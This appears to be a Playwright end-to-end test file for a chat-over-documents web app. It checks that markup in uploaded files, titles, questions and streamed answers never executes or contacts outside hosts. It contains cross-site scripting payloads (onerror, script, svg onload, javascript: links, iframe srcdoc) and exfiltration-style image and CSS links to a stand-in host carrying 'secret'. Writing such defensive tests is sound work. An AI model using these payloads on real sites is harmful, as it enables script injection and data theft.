import { ask, begin, expect, lastAnswer, test } from "./test.ts";

declare global {
  interface Window {
    timesRan: number;
  }
}

const run = "window.ran(1)";
const away = "https://evil.example";
const tag = `<img src=x onerror=${run}>`;
const script = `<script>${run}</script>`;

/** Counts what runs; the fixture fails on any request that leaves. */
const countRuns = (): void => {
  Object.assign(window, { timesRan: 0 });
  const ran = (): void => {
    window.timesRan += 1;
  };
  Object.assign(window, { ran, alert: ran });
};

test("names, titles, questions and answers made of markup run nothing and reach nobody", async ({
  page,
}) => {
  test.setTimeout(180_000);
  await page.addInitScript(countRuns);
  await begin(page);
  await page.goto("/admin/documents");
  await expect(page.getByRole("row").filter({ hasText: "National Archives" })).toBeVisible();
  const text = [
    `# Kraken ${tag} ${script}`,
    `The kraken of ${tag} weighs 77 tonnes ![a](${away}/a.png) <svg onload=${run}> [b](javascript:${run}).`,
    `Kraken link: ${away}/?q=secret and <iframe srcdoc="${script}"></iframe>.`,
  ].join("\n\n");
  await page.getByLabel("Choose files").setInputFiles({
    name: `kraken ${tag}.md`,
    mimeType: "text/markdown",
    buffer: Buffer.from(text),
  });
  const row = page.getByRole("row").filter({ hasText: "raken" });
  await expect(row.getByText("Ready")).toBeVisible({ timeout: 60_000 });
  await row.getByRole("rowheader").getByRole("button").click();
  await expect(page.getByRole("complementary", { name: "Source" })).toContainText("77 tonnes");
  await page.keyboard.press("Escape");

  await page.goto("/");
  await ask(page, `How many tonnes does the kraken weigh? ${tag}${script}`);
  await expect(lastAnswer(page)).toHaveAttribute("aria-busy", "false", { timeout: 60_000 });
  await expect(lastAnswer(page)).toContainText("77 tonnes");
  const { pathname } = new URL(page.url());
  const title = `Kraken ${tag} ${script}`;
  const renamed = await page.evaluate(
    async ([path, name]) =>
      (
        await fetch(path!, {
          method: "PATCH",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ title: name }),
        })
      ).status,
    [`/api/conversations/${pathname.split("/").at(-1) ?? ""}`, title],
  );
  expect(renamed).toBe(204);
  for (const path of [pathname, "/", "/admin/documents"]) {
    await page.goto(path);
    await expect(page.getByRole("navigation", { name: "Pages and chats" })).toContainText("Kraken");
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Search and go to" }).fill("kraken");
    await expect(page.getByRole("option").filter({ hasText: /raken/u }).first()).toBeVisible();
    await page.keyboard.press("Escape");
    expect(await page.evaluate(() => window.timesRan)).toBe(0);
    expect(await page.locator("img[src='x'], iframe[srcdoc], svg[onload]").count()).toBe(0);
  }
});

test("an answer that streams markup runs nothing and reaches nobody at any prefix", async ({
  page,
}) => {
  await page.addInitScript(countRuns);
  await begin(page);
  await ask(page, "What was the probable cause of the accident near Soledad?");
  await expect(lastAnswer(page)).toHaveAttribute("aria-busy", "false", { timeout: 60_000 });
  const written = `${tag} ${script} ![x](${away}/p.png?q=secret) [l](javascript:${run}) $\\href{javascript:${run}}{x}$ <style>@import "${away}/c.css"</style>`;
  const answerId = "00000000-0000-4000-8000-00000000abcd";
  const frames = [
    `event: started\ndata: ${JSON.stringify({ answerId, turn: 2 })}\n\n`,
    ...[
      { type: "sources", sources: [] },
      { type: "evidence", quotes: [], verdict: "answerable" },
      ...Array.from(written, (text) => ({ type: "text-delta", text })),
      { type: "sentence", index: 0, text: written, citations: [], supported: true },
      { type: "text-end", answerId, outcome: "complete" },
    ].map((event, index) => `id: ${String(index + 1)}\ndata: ${JSON.stringify(event)}\n\n`),
    "event: end\ndata: {}\n\n",
  ];
  await page.route("**/api/conversations/*/turns", (route) =>
    route.fulfill({ contentType: "text/event-stream", body: frames.join("") }),
  );
  await ask(page, "Say something that runs.");
  await expect(page.getByRole("article")).toHaveCount(2);
  await expect(lastAnswer(page)).toHaveAttribute("aria-busy", "false");
  await expect(lastAnswer(page)).toContainText("x");
  expect(await page.evaluate(() => window.timesRan)).toBe(0);
  expect(await page.locator("main img[src^='http'], main iframe, main script").count()).toBe(0);
});
